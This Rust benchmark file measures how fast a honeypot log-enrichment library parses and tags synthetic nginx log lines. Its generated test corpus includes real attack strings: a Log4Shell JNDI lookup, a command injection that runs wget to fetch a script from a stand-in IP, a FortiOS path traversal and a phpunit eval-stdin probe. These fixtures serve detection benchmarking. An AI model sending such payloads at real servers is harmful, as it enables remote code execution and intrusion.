//! Policy throughput, side by side: parse + scanner tags + JSON encoding of 1M generated
//! honeypot lines (lookups off), with and without attack tags, and with the same layout
//! given as a custom nginx `log_format`.
//!
//! `cargo bench -p logenrich-policy` (`LINES=200000` for a shorter run). Each
//! configuration runs three times over the same corpus; the best run is printed.

use std::hint::black_box;
use std::time::Instant;

/// CPU time of this thread in seconds, from `/proc/thread-self/schedstat` (nanoseconds on
/// the CPU), so that other work on a shared machine does not count; wall time where that
/// file is missing.
fn cpu_seconds(wall: Instant) -> f64 {
    std::fs::read_to_string("/proc/thread-self/schedstat")
        .ok()
        .and_then(|s| s.split_whitespace().next()?.parse::<u64>().ok())
        .map_or_else(|| wall.elapsed().as_secs_f64(), |ns| ns as f64 / 1e9)
}

use logenrich_policy::settings::{Setting, SettingValue};
use logenrich_policy::{BatchIn, Filter, NoLookups};

/// The honeypot layout as an nginx `log_format` string (reference §1).
const HONEYPOT: &str = "$remote_addr - $remote_user [$time_local] \"$request\" $status \
    $body_bytes_sent \"$http_referer\" \"$http_user_agent\" \"$http_x_forwarded_for\" \
    $server_port $host";

const UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.28.1",
    "Mozilla/5.0 (Linux; Android 13; SM-S901B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/112.0.0.0 Mobile Safari/537.36",
    "curl/7.88.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Hakai/2.0",
    "-",
    "${jndi:ldap://192.0.2.1:1389/Exploit}",
];

const TARGETS: &[&str] = &[
    "/",
    "/favicon.ico",
    "/robots.txt",
    "/index.html",
    "/wp-login.php",
    "/static/app.js?v=1.2.3",
    "/api/v1/items?id=42&sort=asc",
    "/.env",
    "/login.cgi?cli=aa%20aa%27;wget%20http://192.0.2.33/x.sh",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/images/logo.png",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
];

/// splitmix64.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

/// `n` honeypot lines: mostly ordinary requests, ~10 % attacks, a few TLS handshakes.
/// With `distinct`, every request is unique (a `n=` query parameter), so the per-batch
/// memo of request tags never hits: the worst case for attack tagging.
fn corpus(n: usize, distinct: bool) -> Vec<String> {
    let mut rng = Rng(7);
    (0..n)
        .map(|i| {
            let ip = if rng.below(10) == 0 {
                format!("2001:db8:1:c84::{:x}", rng.below(500))
            } else {
                format!("198.51.{}.{}", rng.below(4), rng.below(250))
            };
            let (m, s) = ((i / 60) % 60, i % 60);
            let request = if rng.below(100) == 0 {
                r"\x16\x03\x01\x00\xF1\x01\x00\x00\xED\x03\x03".to_string()
            } else {
                // Ordinary targets far more often than the attack ones at the end.
                let t = if rng.below(4) == 0 {
                    TARGETS[rng.below(TARGETS.len())]
                } else {
                    TARGETS[rng.below(7)]
                };
                if distinct {
                    let sep = if t.contains('?') { '&' } else { '?' };
                    format!("GET {t}{sep}n={i} HTTP/1.1")
                } else {
                    format!("GET {t} HTTP/1.1")
                }
            };
            let ua = UAS[rng.below(UAS.len() - 1) + usize::from(rng.below(30) == 0)];
            format!(
                "{ip} - - [19/Jul/2022:13:{m:02}:{s:02} +0200] \"{request}\" {} {} \"-\" \"{ua}\" \"-\" 443 198.51.100.77",
                [200, 404, 400][rng.below(3)],
                rng.below(5000)
            )
        })
        .collect()
}

/// Runs every configuration `ROUNDS` times, interleaved (the machine is shared: a burst of
/// other work then costs every configuration alike), and returns the best lines/s of each.
fn measure(configs: &[(&str, Filter)], batches: &[(Vec<u8>, Vec<u32>)], lines: usize) -> Vec<f64> {
    const ROUNDS: usize = 5;
    let mut best = vec![f64::MAX; configs.len()];
    let mut out = Vec::with_capacity(1 << 22);
    for _ in 0..ROUNDS {
        for (i, (name, filter)) in configs.iter().enumerate() {
            // `ONLY=text` runs the configurations whose name has it (for a profiler).
            if std::env::var("ONLY").is_ok_and(|only| !name.contains(only.as_str())) {
                continue;
            }
            let wall = Instant::now();
            let start = cpu_seconds(wall);
            let mut parsed = 0;
            for (data, ends) in batches {
                out.clear();
                let batch = BatchIn {
                    first_line: 1,
                    source: None,
                    data,
                    ends,
                    parts: &[],
                };
                parsed += logenrich_policy::batch::process(filter, &mut NoLookups, batch, &mut out)
                    .parsed;
                black_box(&out);
            }
            black_box(parsed);
            best[i] = best[i].min(cpu_seconds(wall) - start);
        }
    }
    let rates: Vec<f64> = best.iter().map(|t| lines as f64 / t).collect();
    for ((name, _), rate) in configs.iter().zip(&rates) {
        println!("{name:<48} {rate:>12.0} lines/s");
    }
    rates
}

fn filter(settings: &[Setting]) -> Filter {
    let mut settings = settings.to_vec();
    settings.push(Setting::new("reverse-dns", SettingValue::Flag(false)));
    settings.push(Setting::new("geoip", SettingValue::Flag(false)));
    Filter::new(&settings).expect("bench settings")
}

fn main() {
    let lines: usize = std::env::var("LINES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1_000_000);
    let batches = |distinct| -> Vec<(Vec<u8>, Vec<u32>)> {
        corpus(lines, distinct)
            .chunks(2048)
            .map(|chunk| {
                let mut data = Vec::new();
                let mut ends = Vec::new();
                for l in chunk {
                    data.extend_from_slice(l.as_bytes());
                    ends.push(data.len() as u32);
                }
                (data, ends)
            })
            .collect()
    };
    let (batches, unique) = (batches(false), batches(true));
    let start = Instant::now();
    let compiled = Filter::new(&[]).expect("defaults");
    println!(
        "configure with the default attack rules: {:.1} ms ({} rules)",
        start.elapsed().as_secs_f64() * 1e3,
        compiled.attacks.as_ref().map_or(0, |a| a.len())
    );
    println!(
        "{lines} generated honeypot lines, batches of 2048, lookups off, CPU time, best of 5 interleaved"
    );
    let off = Setting::new("attacks", SettingValue::Flag(false));
    let honeypot = Setting::new("format", SettingValue::Text("honeypot".into()));
    let custom = Setting::new("log-format", SettingValue::Text(HONEYPOT.into()));
    let mut configs = vec![
        (
            "built-in honeypot, no attack tags",
            filter(&[honeypot.clone(), off.clone()]),
        ),
        (
            "built-in honeypot, default attack rules",
            filter(&[honeypot]),
        ),
        ("auto, no attack tags", filter(std::slice::from_ref(&off))),
    ];
    let has_custom = Filter::new(std::slice::from_ref(&custom)).is_ok();
    if has_custom {
        configs.push((
            "custom log_format = honeypot, no attack tags",
            filter(&[custom, off]),
        ));
    }
    let rates = measure(&configs, &batches, lines);
    println!(
        "attack tags: {:.1} % of the throughput without them (bar: >= 85 %)",
        100.0 * rates[1] / rates[0]
    );
    println!(
        "auto: {:.1} % of the built-in honeypot layout",
        100.0 * rates[2] / rates[0]
    );
    if has_custom {
        println!(
            "custom log_format: {:.1} % of the built-in layout (bar: 85 % ..= 115 %)",
            100.0 * rates[3] / rates[0]
        );
    }
    // The ECS encoding re-encodes each record (a parse and a sorted write): what it costs.
    let ecs = Setting::new("encoding", SettingValue::Text("ecs".into()));
    if Filter::new(std::slice::from_ref(&ecs)).is_ok() {
        let honeypot = Setting::new("format", SettingValue::Text("honeypot".into()));
        let off = Setting::new("attacks", SettingValue::Flag(false));
        let pair = [
            ("built-in honeypot, no attack tags", configs[0].1.clone()),
            ("the same, --schema ecs", filter(&[honeypot, off, ecs])),
        ];
        let rates = measure(&pair, &batches, lines);
        println!(
            "ECS encoding: {:.1} % of the throughput of logenrich's own",
            100.0 * rates[1] / rates[0]
        );
    }
    println!("\nthe same corpus with every request distinct (no memo hits for request tags)");
    let rates = measure(&configs[..2], &unique, lines);
    println!(
        "attack tags: {:.1} % of the throughput without them",
        100.0 * rates[1] / rates[0]
    );
}
